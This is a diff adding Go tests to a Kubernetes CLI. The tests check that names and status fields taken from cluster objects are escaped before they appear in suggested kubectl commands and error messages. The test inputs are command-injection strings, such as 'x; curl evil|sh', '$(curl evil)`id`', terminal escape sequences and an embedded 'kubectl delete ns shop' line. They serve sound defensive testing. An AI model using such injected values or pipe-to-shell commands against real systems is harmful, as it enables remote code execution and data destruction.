@@ -3,11 +3,13 @@ package cli
 import (
 	"bytes"
 	"errors"
+	"fmt"
 	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	rbacv1 "k8s.io/api/rbac/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/kubernaut/kubernaut/api/v1alpha1"
@@ -72,6 +74,65 @@ func TestNothingFromOutsideReachesATerminalRaw(t *testing.T) {
 	}
 	if strings.ContainsAny(got.String(), "\x1b\x07\u202e") || strings.Contains(got.String(), "\nDEL") {
 		t.Errorf("got:\n%q", got.String())
+	}
+}
+
+func TestNoNameFromOutsideDoesHarmInACommand(t *testing.T) {
+	rows := map[string]struct{ name, want string }{
+		"a name as people give them": {"anna:approves", "  kubectl -n shop delete rolebinding anna:approves\n"},
+		"a second command":           {"x; curl evil|sh", `name x\x3b curl evil\x7csh`},
+		"a substitution":             {"$(curl evil)`id`", `name \x24\x28curl evil\x29\x60id\x60`},
+		"a flag":                     {"--all", "name --all"},
+		"a terminal's escape":        {"x\x1b[2J\u202eno\u009b", `name x\x1b\x5b2J\u202eno\u009b`},
+		"a line of its own":          {"x\n  kubectl delete ns shop", `name x\x0a  kubectl delete ns shop`},
+		"a quote":                    {`'"\`, `name \x27\x22\x5c`},
+	}
+	for name, row := range rows {
+		t.Run(name, func(t *testing.T) {
+			binding := &rbacv1.RoleBinding{
+				ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: row.name, UID: "u"},
+				RoleRef:    rbacv1.RoleRef{Kind: "ClusterRole", Name: "kubernaut-viewer"},
+			}
+			var left remains
+			left.ungrant(binding)
+			var got bytes.Buffer
+			p := printer{Screen: Screen{Writer: &got}}
+			p.left(left)
+			if p.err != nil || !strings.Contains(got.String(), row.want) {
+				t.Errorf("got %q and the error %v, want %q in it", got.String(), p.err, row.want)
+			}
+			command := strings.Contains(got.String(), "delete rolebinding ")
+			if command != plain.MatchString(row.name) || strings.ContainsAny(got.String(), "\x1b\u202e\u009b$`'\"|") {
+				t.Errorf("got %q", got.String())
+			}
+		})
+	}
+}
+
+func TestWhatAnObjectSaysDoesNoHarmInAnError(t *testing.T) {
+	const trick = "x\x1b[2J`; curl evil|sh"
+	unfit := func(status v1alpha1.AlertRemediationStatus) error {
+		return Answer{Decision: v1alpha1.DecisionApproved}.fits(build.Remediation("shop", "a").With(func(ar *v1alpha1.AlertRemediation) { ar.Status = status }).Obj())
+	}
+	plan := &v1alpha1.PlanStatus{Digest: build.Digest, Mode: v1alpha1.ModeApprove}
+	rows := map[string]struct {
+		err  error
+		want string
+	}{
+		"the run that carries it out": {unfit(v1alpha1.AlertRemediationStatus{RunRef: trick, Plan: plan}), "WorkflowRun x\\x1b\\x5b2J\\x60\\x3b curl evil\\x7csh: to stop it, `kubectl patch wr NAME -n shop"},
+		"what it is a duplicate of":   {unfit(v1alpha1.AlertRemediationStatus{DuplicateOf: trick}), "`kubectl kubernaut describe NAME -n shop`"},
+		"the policy that decided":     {unfit(v1alpha1.AlertRemediationStatus{Plan: &v1alpha1.PlanStatus{Digest: build.Digest, Policy: trick}}), "asks nobody"},
+		"the namespace of a refusal": {
+			forbidden(errors.New(`User "anna" cannot list resource "alertremediations" in API group "kubernaut.io" in the namespace "` + trick + `"`)),
+			"ask whoever administers that namespace for that right",
+		},
+	}
+	for name, row := range rows {
+		t.Run(name, func(t *testing.T) {
+			if got := fmt.Sprint(row.err); !strings.Contains(got, row.want) || strings.Contains(got, "\x1b") {
+				t.Errorf("got %q, want %q in it", got, row.want)
+			}
+		})
 	}
 }
 
